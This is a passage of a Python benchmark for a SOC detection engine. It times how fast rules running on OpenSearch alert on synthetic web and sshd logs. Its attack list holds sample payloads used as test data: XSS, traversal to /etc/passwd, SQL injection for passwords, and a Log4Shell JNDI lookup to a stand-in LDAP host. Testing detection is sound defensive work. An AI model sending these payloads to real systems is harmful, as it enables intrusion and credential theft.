"""Detection benchmark: ``.venv/bin/python -m tests.benchmarks.bench_detection``.

All rules enabled: the project's ``rules/`` plus the public SigmaHQ subset in ``../shared/sigma``
when that folder is beside the checkout. Events are realistic ECS documents made by the real
parsers from generated access-log and sshd lines (41 agencies, varied addresses, paths, agents; one
line in a hundred an attack that a single-event rule must catch).

(b) One cycle's single-event rules over a one-minute ingest window holding ``--events`` events, three
    ways in the same run, alternating, median of ``--runs``: the shipped way (a window of at most
    ``local_max_events`` read once and matched in the service, ``soc.detection.local``; the few rules
    it cannot match searched on the node), every rule searched on the node in batched ``_msearch``
    requests, and one request per rule. The three must find the same matches (printed).
(a) Detection latency at a steady rate (default 1k events/s for 60 s, sent as the agencies' collectors
    send: a sender per agency, each request one agency's events; ``--feed mixed`` for one sender whose
    every request mixes all agencies, the shape of earlier rounds) while the runner cycles every
    ``--interval`` s with a ``--settle`` s settle delay, as the service's scheduler runs it (a cycle
    that took the whole period followed at once; the new alerts grouped into incidents in a thread of
    their own every ``--interval`` s): for each attack event, the time from its
    ``event.ingested`` to the moment the bulk request that wrote its alert returned (the cycle then
    still moves its checkpoints and records rule states), p50 and p95, plus attack events that got
    no alert. That time is also split at the snapshot whose window held the event (its node time:
    the window's end plus the settle delay). Also printed: how long the log streams' refreshes took,
    and how often a window's re-checked stretch held documents the last read had not seen.
(a0) With ``--load-only``: the (a) load alone, no detection and no grouping, and the CPU the node used
    for it (what indexing alone costs; (a) prints the same figure with detection running).
(c) The search thread pool's ``rejected`` counter before and after (a), and the 429s the runner saw.

By default a dedicated OpenSearch node is started on a free port in a temporary folder and stopped at
the end; ``--url URL`` uses a running cluster under a scratch index prefix instead (dropped at the
end). Figures are printed; nothing is asserted: timings never fail anything.
"""

from __future__ import annotations

import argparse
import math
import multiprocessing
import os
import shutil
import statistics
import tempfile
import threading
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

from collectors.parsers import ParseContext, parse
from soc import search
from soc.alerts import store as alert_store
from soc.config import Settings, default_cache
from soc.detection import convert, correlate, rules, runner, slots, store
from soc.detection.convert import Compiled, Result
from soc.detection.settings import DetectionSettings
from soc.incidents import grouping
from soc.opensearch import bootstrap, dist, node
from soc.runtime import Runtime
from tests.benchmarks import ingest_time_correlation

ROOT = Path(__file__).resolve().parents[2]
SIGMA = ROOT.parent / "shared" / "sigma"
AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile",
          "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")  # fmt: skip
PATHS = ("/", "/products.html", "/search?q=rock+%26+roll+tee", "/api/items?id=42", "/img/logo.png",
         "/blog/2026/11/winter-sale.html", "/contact.html", "/css/site.css")  # fmt: skip
ATTACKS = ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/download?file=..%2f..%2f..%2fetc%2fpasswd",
           "/api/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
           "/index.php?x=${jndi:ldap://198.51.100.9/a}")  # fmt: skip
USERS = ("root", "admin", "alice", "oracle", "deploy", "backup")
AGENCIES = [41]  # agencies the events are spread over (each writes its own data streams); --agencies


def _line(i: int, when: datetime) -> tuple[str, bytes, bool]:
    """(parser kind, raw line, is an attack) for event number i: 70 % web requests (one in eight a
    POST), 30 % syslog from sshd, sudo, cron and systemd-logind, as a government server's mix."""
    ip = f"10.{i % 41}.{(i // 41) % 250}.{1 + i % 199}"
    attack = i % 100 == 3
    if i % 10 < 7:
        path = ATTACKS[(i // 100) % len(ATTACKS)] if attack else PATHS[i % len(PATHS)]
        method = "POST" if i % 8 == 5 and not attack else "GET"
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
        return "nginx", (f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {(200, 200, 304, 404)[i % 4]} {i % 9000} '
                         f'"-" "{AGENTS[i % len(AGENTS)]}"').encode(), attack  # fmt: skip
    stamp = f"{when:%b} {when.day:>2} {when:%H:%M:%S}"  # RFC 3164: the day padded with a space
    user, pid = USERS[i % 6], 3000 + i % 20000
    kind = (i // 10) % 6
    if kind == 3:
        what = (f"sudo:   {user} : TTY=pts/{i % 5} ; PWD=/home/{user} ; USER=root ; "
                "COMMAND=/usr/bin/systemctl restart nginx")
    elif kind == 4:
        what = f"CRON[{pid}]: ({user}) CMD (/usr/local/bin/backup --quiet)"
    elif kind == 5:
        what = f"systemd-logind[812]: New session {i % 900} of user {user}."
    elif i % 3:
        what = f"sshd[{pid}]: Accepted publickey for {user} from {ip} port {1024 + i % 60000} ssh2"
    else:
        what = f"sshd[{pid}]: Disconnected from user {user} {ip} port {1024 + i % 60000}"
    return "syslog", f"{stamp} host{i % 30} {what}".encode(), False


def make_events(n: int, tag: str) -> tuple[list[tuple[str, dict[str, Any]]], list[str]]:
    """n ECS events (id, document) from the real parsers, and the ids of the attack events."""
    now = datetime.now(UTC)
    ctx = ParseContext(timezone="UTC", received_at=now)
    docs: list[tuple[str, dict[str, Any]]] = []
    attacks: list[str] = []
    for i in range(n):
        kind, raw, attack = _line(i, now - timedelta(seconds=(n - i) / 1000))
        event = parse(kind, raw, ctx)
        event["organization"] = {"id": f"agency-{i % AGENCIES[0]:02d}"}
        doc_id = f"{tag}-{'atk' if attack else 'ev'}-{i}"
        docs.append((doc_id, event))
        if attack:
            attacks.append(doc_id)
    failed = sum(1 for _, e in docs if "_parse_failure" in (e.get("tags") or []))
    if failed:  # the generator must produce what real sources send, or rules see other data
        raise SystemExit(f"{failed} of {n} generated lines did not parse")
    return docs, attacks


def bursts(attackers: int = 10) -> list[tuple[str, dict[str, Any]]]:
    """Attackers whose correlations fire: per address 30 404s within 30 s (client error burst) and 12
    failed SSH passwords within 60 s (brute force), at times spread over the last minute."""
    now = datetime.now(UTC)
    ctx = ParseContext(timezone="UTC", received_at=now)
    docs: list[tuple[str, dict[str, Any]]] = []
    for a in range(attackers):
        ip = f"198.18.{a}.{7 + a}"
        org = {"id": f"agency-{a % AGENCIES[0]:02d}"}
        for k in range(30):
            when = now - timedelta(seconds=55 - k)
            raw = (f'{ip} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET /old/{k}.html HTTP/1.1" 404 153 "-" '
                   f'"{AGENTS[a % len(AGENTS)]}"').encode()
            docs.append((f"burst-web-{a}-{k}", {**parse("nginx", raw, ctx), "organization": org}))
        for k in range(12):
            when = now - timedelta(seconds=58 - 4 * k)
            raw = (f"{when:%b} {when.day:>2} {when:%H:%M:%S} host{a} sshd[{4000 + k}]: Failed password for root "
                   f"from {ip} port {40000 + k} ssh2").encode()
            docs.append((f"burst-ssh-{a}-{k}", {**parse("syslog", raw, ctx), "organization": org}))
    return docs


def load_rules(public: bool = True) -> list[Result]:
    paths = [ROOT / "rules"]
    if public and SIGMA.is_dir():
        paths += [SIGMA / "rules", SIGMA / "rules-emerging-threats"]
    loaded, _ = rules.load(paths)
    return convert.compile_rules(loaded)


def plain_query_string(result: Result) -> Result:
    """The rule as it ran before its DSL form: the backend's query string on the keyword fields."""
    if isinstance(result, Compiled):
        return replace(result, search={})
    if isinstance(result, convert.CompiledCorrelation):
        return replace(result, bases=tuple(replace(b, search={}) for b in result.bases))
    return result


def _singles(compiled: list[Result], stream: str) -> list[Compiled]:
    hidden = convert.referenced_ids(compiled)
    return [c for c in compiled if isinstance(c, Compiled) and stream in c.streams and c.rule.id not in hidden]


def bench_batched(settings: Settings, compiled: list[Result], events: int, runs: int, concurrency: int) -> None:
    client, names = search.client(settings), search.names(settings)
    docs, _ = make_events(events, "b")
    docs += bursts()  # so that the correlation step (d) has groups to fetch and episodes to report
    began = store.node_now(client)
    store.index_documents(client, names, docs, chunk=5000)
    end = store.node_now(client)
    start = min(end - timedelta(seconds=60), began - timedelta(seconds=1))
    ds = replace(DetectionSettings(), max_concurrent_searches=concurrency)
    print(f"(b) {events} events ingested in {(end - began).total_seconds():.1f} s; window "
          f"{(end - start).total_seconds():.0f} s; batch of {ds.batch_size} rules per _msearch, "
          f"{ds.max_concurrent_searches} searches at once")
    # the shipped way (a small window read once and matched in the service, the rules that cannot be
    # searched on the node), then every rule searched on the node: batched, and one request per rule
    modes = {"read once, matched here (shipped)": (ds, True),
             "every rule searched, batched _msearch": (replace(ds, local_max_events=0), True),
             "every rule searched, one request each": (replace(ds, local_max_events=0), False)}
    times: dict[str, list[float]] = {m: [] for m in modes}
    requests: dict[str, int] = {}
    answers: dict[str, dict[Any, Any]] = {}
    last: dict[str, runner.CycleReport] = {}
    for _ in range(runs):
        for mode, (mode_ds, batched) in modes.items():
            report = runner.CycleReport()
            runner._memo.clear()  # every run matches the whole window afresh (a cycle re-matches only new documents)
            t0 = time.perf_counter()
            # both streams' queries share the requests, as in a cycle
            works = [runner.plan(compiled, slots.Slot(stream, 0, 1), start, end, mode_ds)
                     for stream in search.LOG_STREAMS]
            found = runner._batched_hits(client, names, works, mode_ds, report, batched)
            times[mode].append(time.perf_counter() - t0)
            # rules with no match: the shipped way answers each, the searches skip some (absent values)
            answers[mode] = {k: ([h["_id"] for h in hits], total) for k, (hits, total) in found.items() if total}
            requests[mode], last[mode] = report.requests, report
            if report.errors:
                print(f"    errors: {report.errors}")
    n_rules = sum(len(_singles(compiled, s)) for s in search.LOG_STREAMS)
    shipped = next(iter(modes))
    matches = sum(total for _, total in answers[shipped].values())
    same = all(answers[m] == answers[shipped] for m in modes)
    print(f"    {n_rules} single-event rules, {matches} matches; {last[shipped].fetched} documents read once, "
          f"{last[shipped].matched_locally} rules matched in the service, the others searched; "
          f"same matches in every mode: {same}")
    print(f"    median (min-max) of {runs} runs; the shipped way's last run: "
          + ", ".join(f"{k} {v:.2f} s" for k, v in last[shipped].phases.items()))
    for mode in modes:
        print(f"    {mode}: {statistics.median(times[mode]):.2f} s ({min(times[mode]):.2f}-{max(times[mode]):.2f}), "
              f"{requests[mode]} requests")
    bench_correlations(client, names, compiled, start, end, ds, runs, statistics.median(times[shipped]))
    costs: list[tuple[float, str]] = []
    for stream in search.LOG_STREAMS:
        for c in _singles(compiled, stream):
            t0 = time.perf_counter()
            for query in c.searches():  # a rule cut into parts costs all of them
                store.search(client, ",".join(names(s) for s in c.streams),
                             runner._body(c, start, end, ds, 1, query=query), ds.request_timeout_s)
            costs.append((time.perf_counter() - t0, c.rule.title))
    costs.sort(reverse=True)
    print(f"    one rule alone: median {statistics.median(c for c, _ in costs) * 1000:.0f} ms; slowest: "
          + "; ".join(f"{title} {cost * 1000:.0f} ms" for cost, title in costs[:3]))


def bench_correlations(client: Any, names: Any, compiled: list[Result], start: datetime, end: datetime,
                       ds: DetectionSettings, runs: int, singles_s: float) -> None:
    """(d) The correlation step over the (b) window: event time (the engine) against ingest time (the
    engine before, tests/benchmarks/ingest_time_correlation.py), alternating, median of runs."""
    corrs = [c for c in compiled if isinstance(c, convert.CompiledCorrelation)
             and c.rule.id not in convert.referenced_ids(compiled)]
    index_of = {s: names(s) for s in search.LOG_STREAMS}
    window = {"start": store.iso(start), "end": store.iso(end)}
    took: dict[str, list[float]] = {"event time": [], "ingest time": []}
    detail = ""
    for _ in range(runs):
        t0 = time.perf_counter()
        items = [correlate.Item(c, ",".join(index_of[s] for s in c.streams), start, end, [], window) for c in corrs]
        out = correlate.run(client, names, items, ds, store.iso(datetime.now(UTC)))
        took["event time"].append(time.perf_counter() - t0)
        kept = sum(len(it.probe.buckets) for it in items)
        detail = (f"{out.evaluated} correlations with new groups, {kept} groups fetched after pruning, "
                  f"{len(out.created)} episodes, errors {len(out.errors)}")
        t0 = time.perf_counter()
        ingest_time_correlation.run(client, index_of, corrs, start, end, ds)
        took["ingest time"].append(time.perf_counter() - t0)
    new, old = statistics.median(took["event time"]), statistics.median(took["ingest time"])
    print(f"(d) {len(corrs)} correlations over the same window, median of {runs} runs (min-max): "
          f"event time {new:.2f} s ({min(took['event time']):.2f}-{max(took['event time']):.2f}), "
          f"ingest time (before) {old:.2f} s ({min(took['ingest time']):.2f}-{max(took['ingest time']):.2f}); "
          f"cycle (singles + correlations) {singles_s + old:.2f} s before, {singles_s + new:.2f} s after")
    print(f"    event time: {detail}")


def _feed(settings: Settings, docs: list[tuple[str, dict[str, Any]]], rate: int, sent: Any, shape: str,
          cpu: Any) -> None:
    """The load at ``rate``, in a process of its own, as collectors are: in the runner's process its
    JSON encoding would take the interpreter lock from the runner.

    ``agencies`` (the default): as the agencies' collectors send. Each agency has its own collector,
    with its own credentials, so a bulk request holds one agency's events only: one sender per agency,
    each waking every 0.2 s (a collector's file poll) and sending at once, in one request, every event
    of its agency that is due by then (more when it fell behind, as a collector's queue does).
    ``mixed``: one sender, a request every 0.1 s holding every agency's events of that tick, one request
    at a time (the shape of earlier rounds: each request reaches all 82 write shards, each of which
    syncs its translog, which a collector holding one agency's credentials cannot cause)."""
    t0, c0 = time.monotonic(), _cpu_s()
    if shape == "mixed":
        client, names = search.client(settings), search.names(settings)
        tick = 0.1
        per_tick = max(1, int(rate * tick))
        for k, i in enumerate(range(0, len(docs), per_tick)):
            delay = t0 + k * tick - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            store.index_documents(client, names, docs[i:i + per_tick], chunk=per_tick, refresh=False)
        sent.value = time.monotonic() - t0
        cpu.value = _cpu_s() - c0
        return
    # Encoded before the clock starts: these threads stand for 41 collectors that run on the agencies'
    # machines, so the CPU they take on this one is the benchmark's, not the service's; they only post.
    names = search.names(settings)
    by_agency: dict[str, list[tuple[int, bytes]]] = {}
    for i, (doc_id, event) in enumerate(docs):
        action = {"create": {"_index": store.target_stream(names, event), "_id": doc_id}}
        by_agency.setdefault(event["organization"]["id"], []).append(
            (i, orjson.dumps(action) + b"\n" + orjson.dumps(event) + b"\n"))
    t0, c0 = time.monotonic(), _cpu_s()

    def collector(own: list[tuple[int, bytes]]) -> None:
        client = search.client(settings)
        done = 0
        while done < len(own):
            elapsed = time.monotonic() - t0
            due = done
            while due < len(own) and own[due][0] / rate <= elapsed:
                due += 1
            if due > done:
                body = b"".join(line for _, line in own[done:due])

                def post(payload: bytes = body) -> dict[str, Any]:
                    resp: dict[str, Any] = client.bulk(body=payload, filter_path="errors,items.*.error",
                                                       request_timeout=120)
                    return resp

                resp = store.with_backoff(post)
                if resp.get("errors"):
                    raise RuntimeError(f"events were refused: {resp.get('items', [])[:1]}")
                done = due
            time.sleep(max(0.0, 0.2 - (time.monotonic() - t0 - elapsed)))

    failures: list[BaseException] = []

    def sender(own: list[tuple[int, bytes]]) -> None:
        try:
            collector(own)
        except BaseException as exc:  # raised below: a load that was not all sent measures nothing
            failures.append(exc)

    senders = [threading.Thread(target=sender, args=(own,)) for own in by_agency.values()]
    for t in senders:
        t.start()
    for t in senders:
        t.join()
    if failures:
        raise failures[0]
    sent.value = time.monotonic() - t0
    cpu.value = _cpu_s() - c0


def _fed(feeder: Any) -> None:
    """Stop the benchmark when the load process failed (its events were not all sent)."""
    if feeder.exitcode != 0:
        raise SystemExit(f"the load process failed (exit code {feeder.exitcode}); see its error above")


def _cpu_s() -> float:
    """CPU seconds (user and system) this process has used."""
    t = os.times()
    return t.user + t.system


def _node_cpu_s(client: Any) -> float:
    """CPU seconds the cluster's OpenSearch processes have used (each node's process statistics)."""
    stats = client.nodes.stats(metric="process")["nodes"].values()
    return float(sum(n["process"]["cpu"]["total_in_millis"] for n in stats)) / 1000


def _make_streams(client: Any, names: Any, docs: list[tuple[str, dict[str, Any]]]) -> int:
    """The agencies' streams exist before the clock starts, as in a running province: an agency's first
    event creates its stream, once, and 82 created in the first second held one cycle for 8.6 s."""
    made = 0
    for target in sorted({store.target_stream(names, event) for _, event in docs}):
        if not client.indices.exists(index=target):
            client.indices.create_data_stream(name=target)
            made += 1
    return made


def bench_load_only(settings: Settings, rate: int, seconds: int, shape: str) -> None:
    """(a0) The same load with no detection and no grouping: what indexing alone costs the node."""
    client, names = search.client(settings), search.names(settings)
    docs, _ = make_events(rate * seconds, "l")
    _make_streams(client, names, docs)
    spawn = multiprocessing.get_context("spawn")
    sent, feeder_cpu = spawn.Value("d", 0.0), spawn.Value("d", 0.0)
    feeder = spawn.Process(target=_feed, args=(settings, docs, rate, sent, shape, feeder_cpu), daemon=True)
    t0, node0 = time.monotonic(), _node_cpu_s(client)
    feeder.start()
    feeder.join()
    _fed(feeder)
    wall = time.monotonic() - t0
    print(f"(a0) the load alone, no detection: {len(docs)} events at {len(docs) / sent.value:,.0f} events/s "
          f"({'a sender per agency' if shape == 'agencies' else 'one sender, every agency in each request'}); "
          f"CPU in cores of {os.cpu_count()}: node {(_node_cpu_s(client) - node0) / wall:.2f} (about {wall:.0f} s), "
          f"load senders {feeder_cpu.value / sent.value:.2f}")


def bench_latency(settings: Settings, compiled: list[Result], rate: int, seconds: int, interval: float,
                  settle: float, concurrency: int, shape: str = "agencies") -> float:
    # the service's detection client (orjson): until 2026-12-05 this one parsed with the standard json
    client, names = runner.detection_client(settings), search.names(settings)
    docs, attacks = make_events(rate * seconds, "a")
    now = store.node_now(client)
    for stream in search.LOG_STREAMS:  # start after what (b) indexed
        store.set_checkpoint(client, names, f"detect:{stream}", now)
    ds = replace(DetectionSettings(), interval_s=interval, settle_s=settle, max_concurrent_searches=concurrency)
    made = _make_streams(client, names, docs)
    rejected_before = store.search_rejections(client)
    client_429_before = store.Stats.rejections
    spawn = multiprocessing.get_context("spawn")
    sent = spawn.Value("d", 0.0)
    feeder_cpu = spawn.Value("d", 0.0)
    feeder = spawn.Process(target=_feed, args=(settings, docs, rate, sent, shape, feeder_cpu), daemon=True)
    cycles: list[tuple[float, float, float]] = []  # wall clock of each cycle: start, alerts written, end
    snapshots: list[float] = []  # per cycle: the node time of its snapshot (its windows' end + settle)
    durations: list[float] = []
    ahead: list[bool] = []
    grouped: list[float] = []  # seconds each grouping run took
    stop_grouping = threading.Event()

    def group() -> None:  # the service's "group" job (soc.scheduler): every period, in a thread of its own
        runtime = Runtime.build(settings)
        tick = time.monotonic()
        while not stop_grouping.is_set():
            t1 = time.monotonic()
            try:
                grouping.run_exclusive(runtime, "bench")
            except Exception as exc:  # as the service's job does: reported, run again at the next tick
                print(f"    grouping failed: {type(exc).__name__}: {exc}")
            grouped.append(time.monotonic() - t1)
            tick += interval * max(1, math.ceil((time.monotonic() - tick) / interval))
            stop_grouping.wait(max(0.0, tick - time.monotonic()))

    grouper = threading.Thread(target=group, daemon=True)
    grouper.start()
    phases: list[dict[str, float]] = []
    # per cycle: documents read, matched anew, rules here, probes here, groups judged on the books, on the node
    reads: list[tuple[int, int, int, int, int, int]] = []
    stretches: list[tuple[int, int]] = []  # per cycle: windows whose re-checked stretch was listed, stragglers
    cpu_at = (time.monotonic(), _node_cpu_s(client), _cpu_s())
    runner.refresh_seconds.clear()
    feeder.start()
    tail_until: float | None = None
    grid = time.time()
    while tail_until is None or time.time() < tail_until:
        t0 = time.time()
        report = runner.run_cycle(settings, ds, compiled, owner="bench", client=client)
        cycles.append((t0, report.alerts_written_at or time.time(), time.time()))
        ends = [store.parse_time(end).timestamp() for _, end in report.windows.values()]
        snapshots.append(max(ends) + settle if ends else 0.0)
        durations.append(report.duration_s)
        ahead.append(report.refreshed_ahead)
        phases.append(report.phases)
        reads.append((report.fetched, report.matched_new, report.matched_locally, report.probed_here,
                      report.groups_here, report.groups_node))
        stretches.append((report.stretch_listed, report.stragglers))
        if report.errors:
            print(f"    cycle errors: {report.errors}")
        if tail_until is None and not feeder.is_alive():
            wall = time.monotonic() - cpu_at[0]
            node_cores, here_cores = (_node_cpu_s(client) - cpu_at[1]) / wall, (_cpu_s() - cpu_at[2]) / wall
            # long enough for the cycles to pass the last events' windows and re-checked stretch
            tail_until = time.time() + max(settle + 2 * interval + 1,
                                           settle + DetectionSettings().recheck_s + 2 * max(durations))
        # as the service's scheduler runs it (soc.scheduler): on a fixed grid; a cycle that took the
        # whole interval is followed at once by the next (the job loops), the grid goes on after it
        grid += interval * max(1, math.ceil((time.time() - grid) / interval))
        if report.duration_s < interval:
            time.sleep(max(0.0, grid - time.time()))
    feeder.join()
    stop_grouping.set()
    grouper.join()
    _fed(feeder)
    rejected_after = store.search_rejections(client)
    ingested = store.ingested_times(client, names, attacks)
    latencies: list[float] = []  # to the moment the cycle's alert bulk request returned (alert written)
    lower: list[float] = []  # to the start of the alerting window's processing
    to_end: list[float] = []  # to the end of that cycle (how earlier rounds measured)
    alerted: set[str] = set()
    named: set[str] = set()  # events any alert names
    written: dict[str, float] = {}  # attack events' alerts: when the bulk request that wrote each returned
    waits_snapshot: list[float] = []  # event.ingested -> node time of the snapshot whose window held it
    after_snapshot: list[float] = []  # that snapshot -> alert written
    for alert in alert_store.all_alerts(client, names):
        named.update(e["id"] for e in alert.get("events", []))
        refs = [e["id"] for e in alert.get("events", []) if e["id"] in ingested]
        if alert.get("kind") != "match" or not refs:
            continue
        created = store.parse_time(alert["created"]).timestamp()
        cycle = next(((w, e, k) for k, (s, w, e) in enumerate(cycles) if s - 1 <= created <= e), None)
        if cycle is None or refs[0] in alerted:
            continue
        done = cycle[0]
        if snapshots[cycle[2]]:
            waits_snapshot.append(snapshots[cycle[2]] - ingested[refs[0]].timestamp())
            after_snapshot.append(done - snapshots[cycle[2]])
        to_end.append(cycle[1] - ingested[refs[0]].timestamp())
        alerted.add(refs[0])
        written[alert["_id"]] = done
        latencies.append(done - ingested[refs[0]].timestamp())
        lower.append(created - ingested[refs[0]].timestamp())
    latencies.sort()
    achieved = len(docs) / sent.value if sent.value else 0.0
    print(f"(a) {len(docs)} events at {achieved:,.0f} events/s for {sent.value:.0f} s (load from another process, "
          f"{'a sender per agency' if shape == 'agencies' else 'one sender, every agency in each request'}; "
          f"{made} data streams created before it); "
          f"runner every {interval:g} s, settle {settle:g} s; {len(cycles)} cycles, "
          f"cycle p50 {statistics.median(durations):.2f} s, p95 "
          f"{sorted(durations)[min(len(durations) - 1, round(0.95 * len(durations)) - 1)]:.2f} s, "
          f"max {max(durations):.2f} s")
    print(f"    cycles that began with the snapshot their busy predecessor started (refresh ahead): "
          f"{sum(ahead)} of {len(ahead)}; grouping the alerts into incidents meanwhile (the service's group job, "
          f"every {interval:g} s in a thread): {len(grouped)} runs, median {statistics.median(grouped):.2f} s, "
          f"max {max(grouped):.2f} s")
    print("    cycles (s, documents read): "
          + " ".join(f"{d:.1f}/{r[0]}" for d, r in zip(durations, reads, strict=True)))
    worked = [p for p, r in zip(phases, reads, strict=True) if r[0]] or phases  # the tail's empty cycles left out
    steps = list(dict.fromkeys(k for p in worked for k in p))
    print("    cycle steps of the cycles that read events, median s: "
          + ", ".join(f"{k} {statistics.median(p.get(k, 0.0) for p in worked):.2f}" for k in steps))
    busy = [r for r in reads if r[0]]
    if busy:
        print(f"    per cycle (median): {statistics.median(r[0] for r in busy):.0f} documents read, "
              f"{statistics.median(r[1] for r in busy):.0f} matched anew (the rest re-read in the re-checked "
              f"stretch), {statistics.median(r[2] for r in busy):.0f} rules and "
              f"{statistics.median(r[3] for r in busy):.0f} correlation probes answered here; correlation groups "
              f"judged on the recent matches kept here: {sum(r[4] for r in busy)}, searched on the node: "
              f"{sum(r[5] for r in busy)} (all cycles)")
    took = sorted(runner.refresh_seconds)
    if took:
        print(f"    the log streams' refresh before a window is read ({len(took)}): "
              f"p50 {statistics.median(took):.2f} s, "
              f"p95 {took[min(len(took) - 1, round(0.95 * len(took)) - 1)]:.2f} s, max {took[-1]:.2f} s")
    print(f"    re-checked stretch listed (it held documents the last read had not seen) in "
          f"{sum(1 for n, _ in stretches if n)} of {len(stretches)} cycles; stragglers (stamped before their "
          f"window's end, searchable after its snapshot): {sum(n for _, n in stretches)} events")
    p95 = float("nan")
    if latencies:
        p95 = latencies[min(len(latencies) - 1, round(0.95 * len(latencies)) - 1)]
        to_end.sort()
        end95 = to_end[min(len(to_end) - 1, round(0.95 * len(to_end)) - 1)]
        print(f"    latency event.ingested -> alert written (bulk request returned), {len(latencies)} attack events: "
              f"p50 {statistics.median(latencies):.2f} s, p95 {p95:.2f} s, max {latencies[-1]:.2f} s; "
              f"to the cycle's end: p50 {statistics.median(to_end):.2f} s, p95 {end95:.2f} s; "
              f"to the evaluation's start: p50 {statistics.median(lower):.2f} s")
    if waits_snapshot:
        def p(xs: list[float], q: float) -> float:
            xs = sorted(xs)
            return xs[min(len(xs) - 1, round(q * len(xs)) - 1)]
        print(f"    of which: event.ingested -> the node time of the snapshot whose window held the event (settle "
              f"included): p50 {p(waits_snapshot, 0.5):.2f} s, p95 {p(waits_snapshot, 0.95):.2f} s; that snapshot "
              f"-> alert written: p50 {p(after_snapshot, 0.5):.2f} s, p95 {p(after_snapshot, 0.95):.2f} s")
    print(f"    attack events without an alert: {len(attacks) - len(alerted)} of {len(attacks)}")
    grouped_at = _grouped_at(client, names)
    waits = sorted(grouped_at[a] - t for a, t in written.items() if a in grouped_at)
    if waits:
        print(f"    alert written -> in an incident (the time of grouping's audit entry naming it), {len(waits)} "
              f"alerts: p50 {statistics.median(waits):.2f} s, p95 "
              f"{waits[min(len(waits) - 1, round(0.95 * len(waits)) - 1)]:.2f} s, max {waits[-1]:.2f} s; "
              f"named by no grouping entry (grouping stopped first, or past an entry's 50): "
              f"{len(written) - len(waits)}")
    missed = sorted(ingested[a].timestamp() for a in attacks if a not in alerted and a in ingested)
    if missed:
        last = max(t.timestamp() for t in ingested.values())
        print(f"    the missed ones were ingested {', '.join(f'{last - t:.1f}' for t in missed[:20])} s before the "
              f"last attack event; {len(attacks) - len(ingested)} not found in the streams; "
              f"{sum(1 for a in attacks if a not in alerted and a in named)} named by an alert outside the cycles")
    print(f"    CPU while the load ran (about {wall:.0f} s), in cores of {os.cpu_count()}: node {node_cores:.2f}, "
          f"service (cycles and grouping) {here_cores:.2f}, load senders {feeder_cpu.value / sent.value:.2f}")
    print(f"(c) search thread-pool rejections during (a): {rejected_after - rejected_before}; "
          f"429s seen by the runner: {store.Stats.rejections - client_429_before}")
    return p95


def _grouped_at(client: Any, names: Any) -> dict[str, float]:
    """Alert id -> when grouping first put it into an incident: its audit entries (opened with, alerts
    added) name up to 50 alerts each, stamped just before the incident write (so a wait is short by
    that write's time)."""
    client.indices.refresh(index=names.audit)
    out: dict[str, float] = {}
    body: dict[str, Any] = {"size": 2000, "_source": ["@timestamp", "details.alerts"], "sort": [{"_seq_no": "asc"}],
                            "query": {"terms": {"action": ["incident.create", "incident.alerts_added"]}}}
    while True:
        hits = client.search(index=names.audit, body=body)["hits"]["hits"]
        for h in hits:
            at = store.parse_time(h["_source"]["@timestamp"]).timestamp()
            for alert_id in (h["_source"].get("details") or {}).get("alerts") or []:
                out[alert_id] = min(at, out.get(alert_id, at))
        if len(hits) < body["size"]:
            return out
        body["search_after"] = hits[-1]["sort"]


def set_stream_refresh(settings: Settings, interval: str) -> None:
    """Rewrite the log streams' index templates with another refresh interval (before any stream exists)."""
    client, names = search.client(settings), search.names(settings)
    for stream in search.LOG_STREAMS:
        for name in client.indices.get_index_template(name=f"{names.template(stream)}*")["index_templates"]:
            body = name["index_template"]
            body["template"]["settings"]["index"]["refresh_interval"] = interval
            client.indices.put_index_template(name=name["name"], body=body)
    print(f"experiment: log streams' refresh_interval {interval} (shipped: 5s)")


def main(argv: list[str] | None = None) -> int:
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--url", help="use this running cluster (scratch prefix) instead of a dedicated node")
    options.add_argument("--events", type=int, default=60_000, help="events in the (b) window")
    options.add_argument("--runs", type=int, default=3, help="(b) runs per mode")
    options.add_argument("--rate", type=int, default=1000, help="(a) events per second")
    options.add_argument("--seconds", type=int, default=60, help="(a) duration")
    shipped = DetectionSettings()
    options.add_argument("--interval", type=float, default=shipped.interval_s,
                         help=f"(a) runner period (default: the service's, {shipped.interval_s:g} s)")
    options.add_argument("--settle", type=float, default=shipped.settle_s,
                         help=f"(a) settle delay (default: the service's, {shipped.settle_s:g} s)")
    options.add_argument("--concurrency", type=int, default=DetectionSettings().max_concurrent_searches,
                         help="searches at once per _msearch (SOC_DETECT_MAX_CONCURRENT_SEARCHES)")
    options.add_argument("--ours-only", action="store_true", help="only the project's rules (not ../shared/sigma)")
    options.add_argument("--query-string", action="store_true",
                         help="run every rule as its plain query string on the keyword fields (the engine before "
                              "the wildcard sub-fields), for a same-node comparison")
    options.add_argument("--no-latency", action="store_true", help="only (b)")
    options.add_argument("--latency-only", action="store_true", help="only (a) and (c)")
    options.add_argument("--load-only", action="store_true",
                         help="only (a0): the (a) load without detection, for the node's CPU of indexing alone")
    options.add_argument("--stream-refresh", default=None, metavar="INTERVAL",
                         help="an experiment, not the shipped setting: the log streams' refresh_interval (e.g. 30s)")
    options.add_argument("--feed", choices=("agencies", "mixed"), default="agencies",
                         help="(a) load shape: a sender per agency, as collectors send (default), or one sender "
                              "mixing every agency in each request (earlier rounds)")
    options.add_argument("--agencies", type=int, default=41,
                         help="spread the events over this many agencies, each with its own data streams (default 41)")
    args = options.parse_args(argv)
    AGENCIES[0] = max(1, args.agencies)
    home: Path | None = None
    if args.url:
        base = Settings(opensearch_url=args.url)
    else:
        home = Path(tempfile.mkdtemp(prefix="soc-bench-node-"))
        home.chmod(0o755)  # the node runs as the service user when this runs as root
        port = node.free_port()
        node.start(dist.install(Settings().opensearch_version, default_cache()), home, port,
                   heap=os.environ.get("SOC_BENCH_HEAP", "1g"), timeout=180)
        base = Settings(node_port=port, node_home=home)
    try:
        with bootstrap.scratch(base, "scratch-bench-") as settings:
            if args.stream_refresh:
